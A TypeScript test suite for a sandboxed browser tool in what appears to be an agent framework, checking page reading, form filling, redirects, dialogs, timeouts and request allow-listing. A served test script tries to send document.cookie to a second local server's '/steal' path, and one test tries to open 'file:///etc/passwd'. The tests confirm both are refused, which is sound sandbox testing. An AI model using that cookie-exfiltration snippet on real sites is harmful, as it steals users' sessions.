import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserSettings } from '../../../core/ports/sandbox/tools';
import { describeSlow } from '../../../test/support/slow-tests';
import { findBrowser } from './find-browser';
import { openBrowser } from './open-browser';

const hasBrowser = (() => {
	try {
		return findBrowser(process.env.TROUPE_CHROMIUM) !== '';
	} catch {
		return false;
	}
})();
// Continuous integration has one, so that nothing is skipped there.
const describeBrowser = hasBrowser || process.env.CI === 'true' ? describeSlow : describe.skip;

let home: string;
let shop: Server;
let other: Server;
const asked: Array<{ method: string; url: string; cookie?: string; body: string }> = [];
const browsers: Browser[] = [];
const { signal } = new AbortController();

const pages: Record<string, string> = {
	'/': `<title>Shop</title><h1>Casa Aurora</h1><a href="/item?id=1" target="_blank">Coffee machine</a>
		<form action="/found"><input name="q" placeholder="Search"><select name="in"><option>All</option><option value="c">Cups</option></select><button>Go</button></form>
		<script src="/page.js"></script>`,
	'/item': '<title>Item</title><h1>Coffee machine</h1><p>149.90</p>',
	'/busy': '<title>Busy</title><button onclick="for (;;);">Never</button>',
	'/ask': '<title>Ask</title><body><script>document.body.append(confirm("Sure?") ? "yes" : "no")</script>',
};

async function answer(request: IncomingMessage): Promise<[status: number, type: string, body: string, headers?: object]> {
	let body = '';
	for await (const chunk of request) body += String(chunk);
	const url = request.url!;
	asked.push({ method: request.method!, url, cookie: request.headers.cookie, body });
	if (url === '/page.js')
		return [
			200,
			'text/javascript',
			`document.body.append('from a script'); fetch('http://localhost:${port(other)}/steal?x=' + document.cookie).catch((e) => document.body.append(' refused'));`,
		];
	if (url === '/moved') return [302, 'text/plain', '', { location: '/item?id=2', 'set-cookie': 'seen=1' }];
	if (url.startsWith('/found'))
		return [200, 'text/html', `<title>Found</title><p>Found ${new URLSearchParams(url.split('?')[1]).toString()}</p>`];
	const page = pages[url.split('?')[0]!];
	return page === undefined ? [404, 'text/html', 'nothing'] : [200, 'text/html', page];
}

const port = (server: Server) => (server.address() as AddressInfo).port;
const listen = async (handler: Parameters<typeof createServer>[1]) => {
	const server = createServer(handler).listen(0, '127.0.0.1');
	await new Promise((resolve) => server.once('listening', resolve));
	return server;
};
const reached: string[] = [];

beforeAll(async () => {
	home = mkdtempSync(join(tmpdir(), 'troupe-browser-test-'));
	shop = await listen((request, response) => {
		void answer(request).then(([status, type, body, headers]) =>
			response.writeHead(status, { 'content-type': type, ...headers }).end(body),
		);
	});
	other = await listen((request, response) => {
		reached.push(request.url!);
		response.end('other');
	});
});
afterEach(async () => {
	for (const browser of browsers.splice(0)) await browser.close();
});
afterAll(() => {
	for (const server of [shop, other]) server.close();
	rmSync(home, { recursive: true, force: true });
});

async function open(more: Partial<BrowserSettings> = {}, keepIn?: string) {
	const requests = [`GET http://localhost:${port(shop)}/*`];
	const settings = { owner: 'tester/web', requests, allowPrivateNetworks: true, least: 'L1' as const, memoryMb: 1_024, timeMs: 120_000 };
	const browser = await openBrowser({ ...settings, ...more }, { stateFolder: home, ...(keepIn !== undefined && { keepIn }) });
	browsers.push(browser);
	return browser;
}
const at = (path: string) => `http://localhost:${port(shop)}${path}`;

describeBrowser('a browser in the sandbox', () => {
	it('reads, lists, clicks and fills in pages, and lists each request', async () => {
		const browser = await open();
		const first = await browser.act({ operation: 'open', url: at('/') }, signal);
		expect(first).toMatchObject({
			kind: 'ok',
			text: expect.stringContaining('Casa Aurora'),
			step: { operation: 'open', level: expect.stringMatching(/^L[12]$/) },
		});
		expect(first.text).toContain('from a script refused');
		expect(first.step.requests).toEqual(
			expect.arrayContaining([
				{ method: 'GET', host: `localhost:${port(shop)}`, path: '/', action: 'forward', status: 200 },
				{ method: 'GET', host: `localhost:${port(shop)}`, path: '/page.js', action: 'forward', status: 200 },
				{ method: 'GET', host: `localhost:${port(other)}`, path: '/steal?x', action: 'refuse' },
			]),
		);
		expect(reached).toEqual([]);
		const { text: elements } = await browser.act({ operation: 'list' }, signal);
		expect(elements.split('\n')).toEqual([
			`1. link "Coffee machine" ${at('/item?id=1')}`,
			'2. field "Search"',
			'3. choice "All Cups": All | Cups',
			'4. button "Go"',
		]);
		await browser.act({ operation: 'type', element: 3, text: 'Cups' }, signal);
		const found = await browser.act({ operation: 'type', element: 2, text: 'cup & saucer', submit: true }, signal);
		expect(found.text).toContain('Found q=cup+%26+saucer&in=c');
		expect(await browser.act({ operation: 'click', element: 1 }, signal)).toMatchObject({
			kind: 'error',
			text: expect.stringContaining('list it again'),
		});
		await browser.act({ operation: 'open', url: at('/') }, signal);
		await browser.act({ operation: 'list' }, signal);
		expect((await browser.act({ operation: 'click', element: 1 }, signal)).text).toContain('149.90');
	}, 300_000);

	it('follows redirects, keeps cookies, and answers dialogs with no', async () => {
		const browser = await open();
		expect((await browser.act({ operation: 'open', url: at('/moved') }, signal)).text).toContain(at('/item?id=2'));
		await browser.act({ operation: 'open', url: at('/item?id=3') }, signal);
		expect(asked.find(({ url }) => url === '/item?id=3')?.cookie).toBe('seen=1');
		expect((await browser.act({ operation: 'open', url: at('/ask') }, signal)).text).toContain('no');
	}, 300_000);

	it('opens nothing that its requests do not name', async () => {
		const browser = await open();
		for (const url of [
			`http://localhost:${port(other)}/`,
			'file:///etc/passwd',
			'chrome://version',
			'data:text/html,hi',
			'https://example.com/',
			'nonsense',
		])
			expect({ url, answer: await browser.act({ operation: 'open', url }, signal) }).toMatchObject({ answer: { kind: 'error' } });
		const guarded = await open({ allowPrivateNetworks: false });
		expect(await guarded.act({ operation: 'open', url: at('/') }, signal)).toMatchObject({ kind: 'error' });
		expect(reached).toEqual([]);
	}, 300_000);

	it('keeps screenshots for a person, and leaves nothing else', async () => {
		const kept = join(home, 'kept');
		const browser = await open({}, kept);
		await browser.act({ operation: 'open', url: at('/item') }, signal);
		const shot = await browser.act({ operation: 'screenshot' }, signal);
		expect(shot.step.files).toMatchObject([{ path: expect.stringMatching(/^screenshot-[0-9a-f]{12}.png$/) as string, change: 'created' }]);
		expect(existsSync(kept)).toBe(false);
		await browser.close();
		expect(readFileSync(join(kept, shot.step.files[0]!.path)).subarray(1, 4).toString()).toBe('PNG');
		expect(readdirSync(tmpdir()).filter((name) => name.startsWith('troupe-sandbox-') && name.includes(`-${process.pid}-`))).toEqual([]);
	}, 300_000);

	it('ends a page that never answers, and goes on with a new one', async () => {
		const browser = await open({ timeMs: 15_000 });
		await browser.act({ operation: 'open', url: at('/busy') }, signal);
		await browser.act({ operation: 'list' }, signal);
		const stuck = await browser.act({ operation: 'click', element: 1 }, signal);
		expect(stuck).toMatchObject({ kind: 'error', step: { limit: 'time' } });
		expect(await browser.act({ operation: 'open', url: at('/item') }, signal)).toMatchObject({ kind: 'ok' });
	}, 300_000);
});
